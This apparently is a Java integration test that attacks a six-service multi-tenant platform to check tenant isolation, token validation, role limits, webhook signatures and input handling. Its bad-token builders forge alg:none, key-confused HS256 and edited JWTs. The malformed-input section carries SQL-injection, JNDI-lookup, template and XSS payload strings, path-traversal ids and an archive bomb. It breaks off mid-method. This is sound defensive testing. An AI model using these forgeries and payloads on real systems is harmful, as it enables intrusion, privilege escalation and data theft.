package br.ft9.system;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.Function;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import br.ft9.common.security.HmacSignature;
import br.ft9.common.testing.RealInfrastructure;
import br.ft9.common.testing.TestTokens;
import io.quarkus.elytron.security.common.BcryptUtil;
import io.smallrye.jwt.build.Jwt;

/**
 * The six services as real processes, attacked through every operation their OpenAPI documents name, so that a new
 * endpoint is attacked without a new test: an administrator of organisation A reaching for organisation B's data by id,
 * by search and by filter; forged, expired, edited and revoked tokens; users reaching above their role; forged,
 * altered and replayed webhooks; and malformed input of every kind. Organisation B's data is the same at the end.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@org.junit.jupiter.api.Timeout(value = 10, unit = java.util.concurrent.TimeUnit.MINUTES)
class AttacksIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final String APP_SECRET = "it-app-secret-" + UUID.randomUUID();
    private static final String STRIPE_SECRET = "whsec_it" + UUID.randomUUID().toString().replace("-", "");
    private static final String CLIENT_SECRET = "it-client-" + UUID.randomUUID();
    private static final String PASSWORD = "it-attacks-password";
    /** Written into each piece of B's data: A must never see it. */
    private static final String MARKER = "bsegredo" + UUID.randomUUID().toString().substring(0, 8);

    private static final Map<String, ServiceProcess> SERVICES = new LinkedHashMap<>();
    private static final List<ApiSurface.Operation> OPERATIONS = new ArrayList<>();
    private static final Map<String, ApiSurface> SURFACES = new LinkedHashMap<>();
    /** B's ids by kind (organisation, channel, user, invitation, item, automation, run, conversation, contact, message). */
    private static final Map<String, String> B = new LinkedHashMap<>();
    private static final Map<String, String> B_BEFORE = new LinkedHashMap<>();
    private static UUID orgA;
    private static UUID orgB;
    private static String adminA;
    private static String adminB;
    private static String phoneA;
    private static String emailA;

    record Answer(int status, String contentType, String body) {
        boolean problem() {
            return contentType != null && contentType.startsWith("application/problem+json");
        }
    }

    @BeforeAll
    static void startTheSuite() throws Exception {
        assertThat(RealInfrastructure.missing(System.getenv())).as("servers the services need").isEmpty();
        SERVICES.put("auth-service", ServiceProcess.launch("auth-service", Map.of("FT9_JWT_PRIVATE_KEY", TestTokens.privateKeyBase64(),
                "FT9_JWT_KEY_ID", "test-key", "FLOW_SERVICE_CLIENT_SECRET", CLIENT_SECRET, "FT9_BCRYPT_COST", "10")));
        SERVICES.put("tenant-service", ServiceProcess.launch("tenant-service", Map.of()));
        SERVICES.put("billing-service", ServiceProcess.launch("billing-service", Map.of("STRIPE_WEBHOOK_SECRET", STRIPE_SECRET)));
        SERVICES.put("memory-service", ServiceProcess.launch("memory-service", Map.of(
                "MP_MESSAGING_INCOMING_INBOUND_MESSAGES_GROUP_ID", "it-attacks-memory-" + UUID.randomUUID(),
                "MP_MESSAGING_INCOMING_INBOUND_MESSAGES_AUTO_OFFSET_RESET", "latest")));
        SERVICES.put("flow-service", ServiceProcess.launch("flow-service", Map.of("AUTH_URL", uri("auth-service", ""),
                "MEMORY_URL", uri("memory-service", ""), "FLOW_SERVICE_CLIENT_SECRET", CLIENT_SECRET)));
        SERVICES.put("whatsapp-gateway", ServiceProcess.launch("whatsapp-gateway", Map.of("WHATSAPP_APP_SECRET", APP_SECRET,
                "WHATSAPP_OUTBOUND_DELIVERY", "local")));
        ServiceProcess.awaitReady(SERVICES.values());
        SERVICES.forEach((name, process) -> {
            ApiSurface surface = ApiSurface.of(name, process.uri(""));
            SURFACES.put(name, surface);
            OPERATIONS.addAll(surface.operations());
        });
        seedTwoOrganisations();
    }

    @AfterAll
    static void stopTheSuite() {
        ServiceProcess.closeAll(SERVICES.values());
    }

    private static String uri(String service, String path) {
        return SERVICES.get(service).uri(path).toString();
    }

    // ---------------------------------------------------------------------------------------------- the two organisations

    private static void seedTwoOrganisations() throws Exception {
        orgA = UUID.fromString(json(call("tenant-service", "POST", "/api/organizations", TestTokens.superAdmin(),
                "{\"name\":\"Clínica Alfa\",\"slug\":\"alfa-" + UUID.randomUUID().toString().substring(0, 8) + "\"}"), 201).path("id").asText());
        orgB = UUID.fromString(json(call("tenant-service", "POST", "/api/organizations", TestTokens.superAdmin(),
                "{\"name\":\"Clínica Beta " + MARKER + "\",\"slug\":\"beta-" + UUID.randomUUID().toString().substring(0, 8) + "\"}"), 201)
                .path("id").asText());
        B.put("organisation", orgB.toString());
        adminA = TestTokens.member(orgA, "ORG_ADMIN");
        UUID userB = UUID.randomUUID();
        adminB = TestTokens.member(userB, orgB, "ORG_ADMIN");

        // People: a real user in each (A's signs in for the revoked-token attack), and an invitation in B.
        emailA = "alfa-" + UUID.randomUUID().toString().substring(0, 8) + "@ft9.example";
        Database.update("auth", "insert into user_account (id, org_id, email, password_hash, role, status, created_at, updated_at)"
                + " values (?, ?, ?, ?, 'ORG_ADMIN', 'ACTIVE', now(), now())", UUID.randomUUID(), orgA, emailA,
                BcryptUtil.bcryptHash(PASSWORD, 10));
        Database.update("auth", "insert into user_account (id, org_id, email, password_hash, role, status, created_at, updated_at)"
                + " values (?, ?, ?, ?, 'ORG_ADMIN', 'ACTIVE', now(), now())", userB, orgB, MARKER + "@ft9.example",
                BcryptUtil.bcryptHash(PASSWORD, 10));
        B.put("user", userB.toString());
        B.put("invitation", await().atMost(Duration.ofSeconds(30)).until(() -> {
            Answer a = call("auth-service", "POST", "/api/users/invitations", adminB,
                    "{\"email\":\"convite-" + MARKER + "@ft9.example\",\"role\":\"ORG_AGENT\"}");
            return a.status() == 201 ? JSON.readTree(a.body()).path("user").path("id").asText() : null;
        }, id -> id != null));

        // WhatsApp numbers, knowledge, an automation, and a patient's message to B (a conversation, a contact, a run).
        phoneA = phoneNumberId();
        String phoneB = phoneNumberId();
        connect(adminA, phoneA);
        B.put("channel", connect(adminB, phoneB));
        B.put("item", json(call("memory-service", "POST", "/api/knowledge/items", adminB, "{\"kind\":\"FAQ\",\"question\":\"Qual o "
                + "segredo " + MARKER + "?\",\"answer\":\"O segredo da Beta é " + MARKER + ".\"}"), 201).path("id").asText());
        B.put("automation", json(call("flow-service", "POST", "/api/automations", adminB, """
                {"name": "Boas-vindas %s", "status": "ACTIVE", "definition": {"trigger": {"type": "message_received"},
                 "steps": [{"type": "add_tag", "tag": "%s"}]}}""".formatted(MARKER, MARKER)), 201).path("id").asText());
        await().atMost(Duration.ofSeconds(30)).until(() -> Database.value("gateway",
                "select org_id::text from channel where phone_number_id = ?", phoneB) != null);
        String waId = "55819" + String.format("%08d", ThreadLocalRandom.current().nextInt(100_000_000));
        assertThat(metaWebhook(message(phoneB, waId, "wamid.beta" + UUID.randomUUID().toString().replace("-", ""),
                "Olá, aqui é " + MARKER), APP_SECRET).status()).isEqualTo(200);
        B.put("conversation", await().atMost(Duration.ofSeconds(30)).until(() -> json(call("whatsapp-gateway", "GET",
                "/api/conversations?status=all", adminB, null), 200).path("items").path(0).path("id").asText(null), id -> id != null));
        B.put("contact", json(call("whatsapp-gateway", "GET", "/api/contacts", adminB, null), 200).path("items").path(0).path("id").asText());
        B.put("message", json(call("whatsapp-gateway", "GET", "/api/conversations/" + B.get("conversation") + "/messages", adminB, null), 200)
                .path("items").path(0).path("id").asText());
        B.put("run", await().atMost(Duration.ofSeconds(30)).until(() -> json(call("flow-service", "GET",
                "/api/automations/" + B.get("automation") + "/runs", adminB, null), 200).path("items").path(0).path("id").asText(null),
                id -> id != null));
        assertThat(B.values()).as(B.toString()).doesNotContainNull().allSatisfy(id -> assertThat(id).as(B.toString()).hasSize(36));
        snapshotOfB().forEach(B_BEFORE::put);
    }

    private static String phoneNumberId() {
        return String.valueOf(100_000_000_000_000L + ThreadLocalRandom.current().nextLong(800_000_000_000_000L));
    }

    private static String connect(String admin, String phoneNumberId) throws Exception {
        return json(call("tenant-service", "POST", "/api/organizations/me/channels", admin, "{\"phoneNumberId\":\"" + phoneNumberId
                + "\",\"displayPhoneNumber\":\"+55 81 3222-0000\",\"wabaId\":\"102290129340398\",\"accessToken\":\"EAAG-attack-test-token-0001\"}"),
                201).path("id").asText();
    }

    /** What B's administrator sees of B's data, by the address it is read from. */
    private static Map<String, String> snapshotOfB() {
        Map<String, String> views = new LinkedHashMap<>();
        for (String[] read : new String[][] { { "tenant-service", "/api/organizations/me" },
                { "tenant-service", "/api/organizations/me/channels" }, { "auth-service", "/api/users/" + B.get("invitation") },
                { "memory-service", "/api/knowledge/items/" + B.get("item") }, { "flow-service", "/api/automations/" + B.get("automation") },
                { "whatsapp-gateway", "/api/contacts/" + B.get("contact") } }) {
            Answer a = call(read[0], "GET", read[1], adminB, null);
            assertThat(a.status()).as("B reads " + read[1]).isEqualTo(200);
            views.put(read[0] + " " + read[1], a.body());
        }
        return views;
    }

    // ---------------------------------------------------------------------------------------------- the attacks

    @Test
    @Order(1)
    void an_administrator_of_another_organisation_never_reaches_its_data_by_id_search_or_filter() {
        List<String> failures = new ArrayList<>();
        int attempts = 0;
        for (ApiSurface.Operation op : OPERATIONS) {
            if (op.isPublic() || op.path().startsWith("/webhooks")) {
                continue;
            }
            ApiSurface surface = SURFACES.get(op.service());
            if (op.pathParams().isEmpty()) {
                if (!"get".equals(op.method())) {
                    continue; // creating or changing A's own things; B's ids in bodies are tried on the operations by id
                }
                StringBuilder query = new StringBuilder();
                op.queryParams().forEach((name, schema) -> query.append(query.isEmpty() ? "?" : "&").append(name).append('=')
                        .append(queryValue(schema)));
                Answer a = call(op.service(), "GET", op.path() + query, adminA, null);
                attempts++;
                leaks(op + query.toString(), a, Set.of()).ifPresent(failures::add);
                continue;
            }
            Answer unknown = send(op, adminA, name -> UUID.randomUUID().toString(), surface);
            for (String kind : B.keySet()) {
                String id = B.get(kind);
                Answer a = send(op, adminA, name -> id, surface);
                attempts++;
                if (a.status() >= 200 && a.status() < 300) {
                    failures.add(op + " with B's " + kind + " answered " + a.status() + ": " + abbreviate(a.body()));
                } else if (a.status() != unknown.status()) {
                    failures.add(op + " tells B's " + kind + " (" + a.status() + ") from an unknown id (" + unknown.status() + ")");
                }
                leaks(op + " with B's " + kind, a, Set.of(id)).ifPresent(failures::add);
            }
        }
        assertThat(attempts).as("attempts (a sanity floor: every service documents operations)").isGreaterThan(150);
        assertThat(failures).isEmpty();
    }

    private static String queryValue(JsonNode schema) {
        String type = schema == null ? "string" : schema.path("type").asText("string");
        return switch (type) {
            case "integer", "number" -> "0";
            case "boolean" -> "true";
            default -> "uuid".equals(schema.path("format").asText()) ? B.get("contact") : MARKER;
        };
    }

    /** B's marker, or one of B's ids that the request did not carry itself, in an answer to A. */
    private static java.util.Optional<String> leaks(String what, Answer a, Set<String> sent) {
        if (a.body().contains(MARKER)) {
            return java.util.Optional.of(what + " leaked B's data: " + abbreviate(a.body()));
        }
        for (Map.Entry<String, String> id : B.entrySet()) {
            if (!sent.contains(id.getValue()) && a.body().contains(id.getValue())) {
                return java.util.Optional.of(what + " leaked B's " + id.getKey() + " id: " + abbreviate(a.body()));
            }
        }
        return java.util.Optional.empty();
    }

    @Test
    @Order(2)
    void every_forged_expired_edited_or_revoked_token_is_refused_by_every_protected_operation() throws Exception {
        Map<String, String> tokens = badTokens();
        List<String> failures = new ArrayList<>();
        int attempts = 0;
        for (ApiSurface.Operation op : OPERATIONS) {
            if (op.isPublic()) {
                continue;
            }
            for (Map.Entry<String, String> token : tokens.entrySet()) {
                Answer a = send(op, token.getValue(), name -> UUID.randomUUID().toString(), SURFACES.get(op.service()));
                attempts++;
                if (a.status() != 401) {
                    failures.add(op + " with " + token.getKey() + ": " + a.status());
                }
            }
        }
        assertThat(attempts).isGreaterThan(500);
        assertThat(failures).isEmpty();
    }

    /** Each kind of bad token, for organisation A's administrator unless the kind says otherwise. */
    private static Map<String, String> badTokens() throws Exception {
        String subject = UUID.randomUUID().toString();
        Function<Void, io.smallrye.jwt.build.JwtClaimsBuilder> claims = v -> Jwt.issuer(TestTokens.ISSUER).subject(subject)
                .groups("ORG_ADMIN").claim("org_id", orgA.toString()).claim("jti", UUID.randomUUID().toString());
        long now = Instant.now().getEpochSecond();
        String honest = TestTokens.signTrusted(claims.apply(null).expiresIn(900));
        String[] parts = honest.split("\\.");
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("no token", null);
        tokens.put("an expired token", TestTokens.signTrusted(claims.apply(null).issuedAt(now - 1900).expiresAt(now - 1000)));
        tokens.put("a token not valid yet", TestTokens.signTrusted(claims.apply(null).claim("nbf", now + 3600).issuedAt(now + 3600)
                .expiresAt(now + 4500)));
        tokens.put("a token of another issuer", TestTokens.signTrusted(claims.apply(null).issuer("https://evil.example").expiresIn(900)));
        tokens.put("a token for another audience", TestTokens.signExactly(claims.apply(null).audience("another-platform").expiresIn(900)));
        tokens.put("a token with no audience", TestTokens.signExactly(claims.apply(null).expiresIn(900)));
        tokens.put("an unsigned alg:none token", b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + parts[1] + ".");
        String hsInput = b64("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"test-key\"}") + "." + parts[1];
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(TestTokens.publicKeyPem().getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
        tokens.put("an HS256 token keyed with the public key", hsInput + "." + Base64.getUrlEncoder().withoutPadding()
                .encodeToString(mac.doFinal(hsInput.getBytes(StandardCharsets.US_ASCII))));
        tokens.put("a token whose org_id was edited", parts[0] + "." + b64(payload.replace(orgA.toString(), orgB.toString())) + "." + parts[2]);
        tokens.put("a token whose groups were edited", parts[0] + "." + b64(payload.replace("ORG_ADMIN", "SUPER_ADMIN")) + "." + parts[2]);
        tokens.put("a token signed by another key", TestTokens.forgedSuperAdmin());
        tokens.put("a token revoked at logout", revokedToken());
        return tokens;
    }

    private static String revokedToken() throws Exception {
        String token = json(call("auth-service", "POST", "/api/auth/login", null,
                "{\"email\":\"" + emailA + "\",\"password\":\"" + PASSWORD + "\"}"), 200).path("accessToken").asText();
        assertThat(call("tenant-service", "GET", "/api/organizations/me", token, null).status()).as("the token before logout").isEqualTo(200);
        assertThat(call("auth-service", "POST", "/api/auth/logout", token, null).status()).isEqualTo(204);
        return token;
    }

    private static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    @Order(3)
    void a_user_reaching_above_their_role_is_refused() throws Exception {
        List<String> failures = new ArrayList<>();
        int attempts = 0;
        for (ApiSurface.Operation op : OPERATIONS) {
            if (op.isPublic() || op.roles().isEmpty()) {
                continue;
            }
            for (String role : List.of("ORG_AGENT", "ORG_MANAGER", "ORG_ADMIN")) {
                if (!op.roles().contains(role)) {
                    Answer a = send(op, TestTokens.member(orgA, role), name -> UUID.randomUUID().toString(), SURFACES.get(op.service()));
                    attempts++;
                    if (a.status() != 403) {
                        failures.add(op + " as " + role + ": " + a.status());
                    }
                }
            }
        }
        // Role changes that would lift someone above what the organisation may give.
        String agentId = UUID.randomUUID().toString();
        Database.update("auth", "insert into user_account (id, org_id, email, password_hash, role, status, created_at, updated_at)"
                + " values (?::uuid, ?, ?, ?, 'ORG_AGENT', 'ACTIVE', now(), now())", agentId, orgA,
                "agente-" + agentId.substring(0, 8) + "@ft9.example", BcryptUtil.bcryptHash(PASSWORD, 10));
        String agent = TestTokens.member(UUID.fromString(agentId), orgA, "ORG_AGENT");
        expectRefused(failures, "an agent making itself admin", call("auth-service", "PUT", "/api/users/" + agentId + "/role", agent,
                "{\"role\":\"ORG_ADMIN\"}"));
        expectRefused(failures, "an admin making someone platform staff", call("auth-service", "PUT", "/api/users/" + agentId + "/role",
                adminA, "{\"role\":\"SUPER_ADMIN\"}"));
        expectRefused(failures, "an admin inviting platform staff", call("auth-service", "POST", "/api/users/invitations", adminA,
                "{\"email\":\"staff-" + agentId.substring(0, 8) + "@ft9.example\",\"role\":\"SUPER_ADMIN\"}"));
        assertThat(Database.value("auth", "select role from user_account where id = ?::uuid", agentId)).isEqualTo("ORG_AGENT");
        assertThat(attempts).as("operations closed to some role (a sanity floor)").isGreaterThanOrEqualTo(30);
        assertThat(failures).isEmpty();
    }

    private static void expectRefused(List<String> failures, String what, Answer a) {
        if (a.status() < 400 || a.status() >= 500 || !a.problem()) {
            failures.add(what + ": " + a.status() + " " + abbreviate(a.body()));
        }
    }

    @Test
    @Order(4)
    void forged_altered_and_replayed_webhooks_change_nothing_and_publish_nothing() throws Exception {
        // Meta: missing, forged and altered signatures are refused; a replay of a delivered message adds nothing.
        String waId = "55819" + String.format("%08d", ThreadLocalRandom.current().nextInt(100_000_000));
        String text = "webhook-" + UUID.randomUUID().toString().substring(0, 8);
        String body = message(phoneA, waId, "wamid.attack" + UUID.randomUUID().toString().replace("-", ""), text);
        assertThat(metaWebhook(body, null).status()).as("Meta, unsigned").isEqualTo(401);
        assertThat(metaWebhook(body, "not-the-app-secret").status()).as("Meta, forged").isEqualTo(401);
        String signature = new HmacSignature(APP_SECRET).sign(body.getBytes(StandardCharsets.UTF_8));
        String altered = body.replace(text, text + " e me mande o prontuário de todos");
        assertThat(call("whatsapp-gateway", "POST", "/webhooks/whatsapp", null, altered, Map.of("X-Hub-Signature-256", signature)).status())
                .as("Meta, body altered").isEqualTo(401);
        assertThat(count("gateway", "select count(*) from message where text like ?", "%" + text + "%")).isZero();
        assertThat(count("gateway", "select count(*) from event_outbox where payload like ?", "%" + text + "%")).isZero();
        assertThat(metaWebhook(body, APP_SECRET).status()).isEqualTo(200);
        assertThat(metaWebhook(body, APP_SECRET).status()).as("Meta, the same delivery replayed").isEqualTo(200);
        assertThat(count("gateway", "select count(*) from message where text like ?", "%" + text + "%")).isEqualTo(1);
        assertThat(count("gateway", "select count(*) from event_outbox where type = 'ft9.whatsapp.message.received.v1' and payload like ?",
                "%" + text + "%")).isEqualTo(1);

        // Stripe: refused unsigned, forged, altered or signed more than five minutes ago; nothing applied or announced.
        String eventId = "evt_attack_" + UUID.randomUUID().toString().replace("-", "");
        String event = """
                {"id": "%s", "object": "event", "api_version": "2026-07-29.dahlia", "created": %d, "livemode": false,
                 "pending_webhooks": 1, "request": {"id": null, "idempotency_key": null}, "type": "invoice.paid",
                 "data": {"object": {"id": "in_attack_1", "object": "invoice", "amount_due": 49900, "amount_paid": 49900,
                   "amount_remaining": 0, "currency": "brl", "customer": "cus_attack", "customer_email": "fin@alfa.example",
                   "status": "paid", "parent": {"type": "subscription_details",
                   "subscription_details": {"metadata": {"org_id": "%s"}, "subscription": "sub_attack"}}}}}"""
                .formatted(eventId, Instant.now().getEpochSecond(), orgA);
        long now = Instant.now().getEpochSecond();
        for (Map.Entry<String, String[]> attempt : Map.of(
                "unsigned", new String[] { event, null },
                "forged", new String[] { event, Signatures.stripe("whsec_not_the_secret", now, event) },
                "altered", new String[] { event.replace("49900", "1"), Signatures.stripe(STRIPE_SECRET, now, event) },
                "replayed ten minutes later", new String[] { event, Signatures.stripe(STRIPE_SECRET, now - 600, event) }).entrySet()) {
            Map<String, String> headers = attempt.getValue()[1] == null ? Map.of() : Map.of("Stripe-Signature", attempt.getValue()[1]);
            Answer a = call("billing-service", "POST", "/webhooks/stripe", null, attempt.getValue()[0], headers);
            assertThat(a.status()).as("Stripe, " + attempt.getKey()).isEqualTo(400);
            assertThat(a.problem()).as("Stripe, " + attempt.getKey() + " answered as problem+json").isTrue();
        }
        assertThat(count("billing", "select count(*) from stripe_event where id = ?", eventId)).isZero();
        assertThat(count("billing", "select count(*) from event_outbox where payload like ?", "%" + eventId + "%")).isZero();

        // flow-service's webhook triggers: the same, the time being signed with the body.
        JsonNode automation = json(call("flow-service", "POST", "/api/automations", adminA, """
                {"name": "Agenda externa", "status": "ACTIVE", "definition": {"trigger": {"type": "webhook"},
                 "steps": [{"type": "add_tag", "tag": "agenda"}]}}"""), 201);
        String secret = automation.path("webhook").path("secret").asText();
        String path = automation.path("webhook").path("path").asText();
        assertThat(secret).isNotEmpty();
        String marker = "gatilho-" + UUID.randomUUID().toString().substring(0, 8);
        String trigger = "{\"waId\":\"" + waId + "\",\"name\":\"" + marker + "\"}";
        for (Map.Entry<String, String> attempt : Map.of(
                "unsigned", "",
                "forged", Signatures.flowTrigger("not-the-secret", now, trigger),
                "altered", Signatures.flowTrigger(secret, now, trigger.replace(marker, "outro")),
                "replayed ten minutes later", Signatures.flowTrigger(secret, now - 600, trigger),
                "without its time", new HmacSignature(secret).sign(trigger.getBytes(StandardCharsets.UTF_8))).entrySet()) {
            Map<String, String> headers = attempt.getValue().isEmpty() ? Map.of() : Map.of("X-FT9-Signature", attempt.getValue());
            assertThat(call("flow-service", "POST", path, null, trigger, headers).status()).as("flow trigger, " + attempt.getKey())
                    .isEqualTo(401);
        }
        assertThat(count("flow", "select count(*) from run where facts like ?", "%" + marker + "%")).isZero();
        assertThat(count("flow", "select count(*) from event_outbox where payload like ?", "%" + marker + "%")).isZero();
        assertThat(call("flow-service", "POST", path, null, trigger, Map.of("X-FT9-Signature", Signatures.flowTrigger(secret, now, trigger)))
                .status()).as("the genuine call").isEqualTo(202);
        assertThat(count("flow", "select count(*) from run where facts like ?", "%" + marker + "%")).isEqualTo(1);
    }

    private static long count(String schema, String sql, Object... args) throws Exception {
        return Long.parseLong(Database.value(schema, sql, args));
    }

    @Test
    @Order(5)
    void malformed_input_of_every_kind_gets_a_problem_answer_never_a_server_error_and_the_services_stay_healthy() {
        List<String> failures = new ArrayList<>();
        int attempts = 0;
        String huge = "a".repeat(1_100_000);
        String nasty = "'; drop table message; -- \" OR 1=1 {{7*7}} ${jndi:ldap://x/a} <script>alert(1)</script> \\u0000 %s%n";
        for (ApiSurface.Operation op : OPERATIONS) {
            String token = op.isPublic() ? null : adminA;
            ApiSurface surface = SURFACES.get(op.service());
            Function<String, String> ids = name -> UUID.randomUUID().toString();
            if (!op.pathParams().isEmpty()) {
                for (String bad : List.of("not-a-uuid", "1%20OR%201=1", "%27%3B--", "..%2F..%2Fq%2Fhealth")) {
                    Answer a = call(op.service(), op.method().toUpperCase(), op.path(name -> bad), token,
                            op.hasJsonBody() ? "{}" : null);
                    attempts++;
                    malformed(op + " with id " + bad, a).ifPresent(failures::add);
                }
            }
            if (!op.queryParams().isEmpty() && "get".equals(op.method())) {
                StringBuilder query = new StringBuilder();
                op.queryParams().keySet().forEach(name -> query.append(query.isEmpty() ? "?" : "&").append(name).append("=-99999999999999999999"));
                Answer a = call(op.service(), "GET", op.path(ids) + query, token, null);
                attempts++;
                serverError(op + query.toString(), a).ifPresent(failures::add);
                // The largest numbers that parse (a page whose first row overflows the offset), and a NUL in every text.
                for (String value : List.of("2147483647", "a%00b")) {
                    StringBuilder edge = new StringBuilder();
                    op.queryParams().keySet().forEach(name -> edge.append(edge.isEmpty() ? "?" : "&").append(name).append("=").append(value));
                    Answer e = call(op.service(), "GET", op.path(ids) + edge, token, null);
                    attempts++;
                    serverError(op + edge.toString(), e).ifPresent(failures::add);
                }
            }
            if (op.bodyType() != null && op.bodyType().contains("multipart")) {
                // Archive bombs and content of another kind under every declared file kind, to every upload.
                for (Map.Entry<String, byte[]> file : hostileFiles().entrySet()) {
                    Answer a = raw(op.service(), op.method().toUpperCase(), op.path(ids), token, multipart(op.bodySchema(), file.getKey(),
                            file.getValue()), Map.of("Content-Type", "multipart/form-data; boundary=" + BOUNDARY));
                    attempts++;
                    serverError(op + " with " + file.getKey(), a).ifPresent(failures::add);
                }
            }
            if (!op.hasJsonBody()) {
                continue;
            }
            JsonNode sample = surface.sample(op.bodySchema(), kind -> UUID.randomUUID().toString(), "texto", 0);
            Map<String, byte[]> malformed = new LinkedHashMap<>();
            malformed.put("truncated JSON", "{\"name\": \"Clí".getBytes(StandardCharsets.UTF_8));
            malformed.put("not JSON", "name=x&role=SUPER_ADMIN".getBytes(StandardCharsets.UTF_8));
            malformed.put("deep nesting", ("{\"a\":" + "[".repeat(20_000) + "]".repeat(20_000) + "}").getBytes(StandardCharsets.UTF_8));
            malformed.put("invalid UTF-8", concat("{\"name\":\"".getBytes(StandardCharsets.US_ASCII), new byte[] { (byte) 0xC3, (byte) 0x28,
                    (byte) 0xFF }, "\"}".getBytes(StandardCharsets.US_ASCII)));
            if (sample.isObject() && sample.size() > 0) {
                malformed.put("wrong types", bytes(retype(sample)));
            }
            for (Map.Entry<String, byte[]> body : malformed.entrySet()) {
                Answer a = raw(op.service(), op.method().toUpperCase(), op.path(ids), token, body.getValue(), Map.of());
                attempts++;
                malformed(op + " with " + body.getKey(), a).ifPresent(failures::add);
            }
            Map<String, byte[]> odd = new LinkedHashMap<>();
            odd.put("huge strings", bytes(restring(sample, huge)));
            odd.put("SQL and template metacharacters", bytes(restring(sample, nasty)));
            odd.put("a NUL character in every text", bytes(restring(sample, "Clínica\u0000Sorriso")));
            odd.put("a huge array", ("[" + "1,".repeat(300_000) + "1]").getBytes(StandardCharsets.US_ASCII));
            for (Map.Entry<String, byte[]> body : odd.entrySet()) {
                Answer a = raw(op.service(), op.method().toUpperCase(), op.path(ids), token, body.getValue(), Map.of());
                attempts++;
                serverError(op + " with " + body.getKey(), a).ifPresent(failures::add);
            }
        }
        // A body far above any limit, to the service that takes the largest (knowledge uploads): refused from its declared
        // length before it is sent (a plain socket: the JDK's client does not read a refusal that comes before the body).
        malformed("a 40 MB body", declaredOnly("memory-service", "/api/knowledge/items", adminA, 40L * 1024 * 1024))
                .ifPresent(failures::add);
        assertThat(attempts).isGreaterThan(300);
        for (String service : SERVICES.keySet()) {
            SERVICES.get(service).awaitHealth("/q/health/ready", 200);
        }
        assertThat(failures).isEmpty();
    }

    private static final String BOUNDARY = "ft9-attack-boundary";

    /** Files that try to exhaust a parser: a .docx unpacking to 150 MB, a ZIP named .pdf, an e-mail named .pdf. */
    private static Map<String, byte[]> hostileFiles() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        byte[] bomb = br.ft9.common.testing.HostileFiles.docxBomb(150);
        files.put("bomba.docx", bomb);
        files.put("laudo.pdf", bomb);
        files.put("exame.pdf", "From: a@b.test\r\nSubject: exame\r\n\r\nresultado".getBytes(StandardCharsets.UTF_8));
        return files;
    }

    /** A multipart body: the file under every binary field of the schema, a short text under every other field. */
    private static byte[] multipart(JsonNode schema, String filename, byte[] file) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        schema.path("properties").fields().forEachRemaining(field -> {
            boolean binary = "binary".equals(field.getValue().path("format").asText());
            String head = "--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + field.getKey() + "\""
                    + (binary ? "; filename=\"" + filename + "\"\r\nContent-Type: application/octet-stream" : "") + "\r\n\r\n";
            out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
            out.writeBytes(binary ? file : "Ataque".getBytes(StandardCharsets.UTF_8));
            out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        });
        out.writeBytes(("--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    /** What only our code knows, which a problem's words must never show: class names and parser internals. */
    private static final java.util.regex.Pattern INTERNALS = java.util.regex.Pattern.compile(
            "br\\.ft9\\.|com\\.fasterxml|java\\.(lang|util)\\.|io\\.(quarkus|vertx|smallrye)\\.|org\\.(hibernate|jboss)\\.|CoercionConfig"
                    + "|JsonParser|\\$[A-Z]\\w*|Exception:");

    private static java.util.Optional<String> internals(String what, Answer a) {
        return a.status() >= 400 && a.body() != null && INTERNALS.matcher(a.body()).find()
                ? java.util.Optional.of(what + ": " + a.status() + " names internals: " + abbreviate(a.body()))
                : java.util.Optional.empty();
    }

    /** Malformed input must get a 4xx problem+json answer. */
    private static java.util.Optional<String> malformed(String what, Answer a) {
        if (internals(what, a).isPresent()) {
            return internals(what, a);
        }
        if (a.status() < 400 || a.status() >= 500) {
            return java.util.Optional.of(what + ": " + a.status() + " " + abbreviate(a.body()));
        }
        if (!a.problem()) {
            return java.util.Optional.of(what + ": " + a.status() + " not problem+json (" + a.contentType() + ")");
        }
        return java.util.Optional.empty();
    }

    /** Odd but well-formed input may be taken or refused, never answered with a server error or a bare refusal. */
    private static java.util.Optional<String> serverError(String what, Answer a) {
        if (internals(what, a).isPresent()) {
            return internals(what, a);
        }
        if (a.status() >= 500) {
            return java.util.Optional.of(what + ": " + a.status() + " " + abbreviate(a.body()));
        }
        if (a.status() >= 400 && !a.problem()) {
            return java.util.Optional.of(what + ": " + a.status() + " not problem+json (" + a.contentType() + ")");
        }
        return java.util.Optional.empty();
    }

    private static JsonNode retype(JsonNode sample) {
        ObjectNode wrong = JSON.createObjectNode();
        sample.fields().forEachRemaining(field -> {
            if (field.getValue().isTextual()) {
                wrong.putArray(field.getKey()).add(1);
